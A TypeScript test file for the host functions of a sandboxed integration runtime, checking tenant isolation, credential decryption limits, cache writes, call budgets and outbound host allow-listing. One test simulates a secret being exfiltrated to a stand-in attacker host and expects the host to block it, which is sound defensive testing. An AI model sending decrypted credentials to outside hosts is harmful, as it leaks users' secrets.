import { getRecipe } from "@arcrun/recipes";
import { encryptCredential, generateCredentialKey } from "arcrun-auth";
import { describe, expect, it } from "vitest";
import { importEncryptionKey, type KvStore, SecretRegistry } from "../../src/host/credentials.js";
import { createHostFunctions, fetchFailure, type HostContext } from "../../src/host/functions.js";
import { credentialKey, tokenCacheKey } from "../../src/keys.js";

// The u6u functions at the ABI boundary, as a component calls them: tenant isolation is structural (the
// component names keys without a tenant; the host adds the tenant of the request).
const key = generateCredentialKey();
const kv = new Map<string, string>();
const store: KvStore = {
  get: async (k) => kv.get(k) ?? null,
  put: async (k, v) => {
    kv.set(k, v);
  },
};
const sealed = await encryptCredential("notion", "secret_tenant_a_token", key);
kv.set(credentialKey("tenant_a", "notion"), JSON.stringify({ ...sealed, recipe: "notion", created_at: "" }));

function hostFor(tenant: string, fetched: Request[] = []) {
  const ctx: HostContext = {
    tenant,
    kv: store,
    encryptionKey: () => importEncryptionKey(key),
    fetch: async (req) => {
      fetched.push(req);
      return Response.json({ ok: true });
    },
    recipe: getRecipe,
    secrets: new SecretRegistry(),
    budget: { hostCalls: 0, maxHostCalls: 100 },
    maxResponseBytes: 1 << 20,
    opened: new Map(),
  };
  return createHostFunctions(ctx);
}

describe("u6u host functions", () => {
  it("kv_get reads the tenant's own credential metadata, never the ciphertext", async () => {
    const r = await hostFor("tenant_a").kv_get('{"key":"cred:notion"}');
    expect(r.status).toBe(0);
    expect(JSON.parse(r.body)).toEqual({ name: "notion", recipe: "notion", created_at: "" });
  });

  it("another tenant finds nothing under the same name, and cannot name a tenant", async () => {
    const b = hostFor("tenant_b");
    expect((await b.kv_get('{"key":"cred:notion"}')).status).toBe(1);
    for (const raw of [
      "tenant_a:cred:notion",
      "cred:tenant_a:cred:notion",
      credentialKey("tenant_a", "notion"),
      "webhook:tenant_a:x",
      "cred:../notion",
    ]) {
      const r = await b.kv_get(JSON.stringify({ key: raw }));
      expect(r.status).toBe(2);
      expect(JSON.parse(r.body)).toMatchObject({ code: "ERR_HOST_DENIED" });
    }
    expect((await b.crypto_decrypt('{"name":"notion"}')).status).toBe(1);
    expect((await b.crypto_sign_rs256('{"credential":"notion","data":"x"}')).status).toBe(1);
  });

  it("crypto_decrypt decrypts only the blob stored for the name", async () => {
    const a = hostFor("tenant_a");
    const ok = await a.crypto_decrypt('{"name":"notion"}');
    expect(JSON.parse(ok.body)).toEqual({ plaintext: "secret_tenant_a_token" });
    const other = await encryptCredential("notion", "forged", key);
    const r = await a.crypto_decrypt(JSON.stringify(other));
    expect(r.status).toBe(2);
  });

  it("kv_put writes only the tenant's oauth2 cache of a credential it has", async () => {
    const a = hostFor("tenant_a");
    expect((await a.kv_put('{"key":"cred:notion","value":"x"}')).status).toBe(2);
    expect((await a.kv_put('{"key":"oauth2:ghost","value":"x"}')).status).toBe(2);
    expect(
      (await a.kv_put('{"key":"oauth2:notion","value":"{\\"access_token\\":\\"at-123456\\"}","ttl":120}'))
        .status,
    ).toBe(0);
    expect(kv.get(tokenCacheKey("tenant_a", "notion"))).toBe('{"access_token":"at-123456"}');
  });

  it("http_request refuses a decrypted secret (or a cached token) outside the recipe's hosts", async () => {
    const fetched: Request[] = [];
    const a = hostFor("tenant_a", fetched);
    await a.crypto_decrypt('{"name":"notion"}');
    const leak = await a.http_request(
      JSON.stringify({
        url: "https://attacker.example/x",
        headers: { authorization: "Bearer secret_tenant_a_token" },
      }),
    );
    expect(leak.status).toBe(2);
    expect(JSON.parse(leak.body)).toMatchObject({ code: "ERR_HOST_NOT_ALLOWED" });
    const allowed = await a.http_request(
      JSON.stringify({
        url: "https://api.notion.com/v1/users/me",
        headers: { authorization: "Bearer secret_tenant_a_token" },
      }),
    );
    expect(allowed.status).toBe(0);
    expect(fetched.map((r) => new URL(r.url).hostname)).toEqual(["api.notion.com"]);
    expect(fetched[0]?.redirect).toBe("manual");
    await a.kv_get('{"key":"oauth2:notion"}');
    expect((await a.http_request(JSON.stringify({ url: "https://x.example/?t=at-123456" }))).status).toBe(2);
  });

  it("counts host calls against the run's budget", async () => {
    const ctx = hostFor("tenant_a");
    let error: unknown;
    try {
      for (let i = 0; i < 101; i++) await ctx.kv_get('{"key":"recipe:notion"}');
    } catch (err) {
      error = err;
    }
    expect(error).toMatchObject({ code: "ERR_LIMIT_HOST_CALLS" });
  });

  it("workerd's opaque fetch error reads as an unreachable host; other errors keep their text", () => {
    // The shape workerd gives for a host that does not resolve (seen end to end in packages/cli's
    // workflow.integration.test.ts against a .invalid host).
    expect(
      fetchFailure("api.github.com", "Error: internal error; reference = 93b8utbnm29djvmrh6ef3t08"),
    ).toBe(
      "could not reach api.github.com (network or DNS): check the URL's host, and that it resolves and answers from where the executor runs (workerd reference 93b8utbnm29djvmrh6ef3t08)",
    );
    expect(fetchFailure("x.test", "TypeError: Invalid header value")).toBe(
      "request to x.test failed: TypeError: Invalid header value",
    );
  });
});
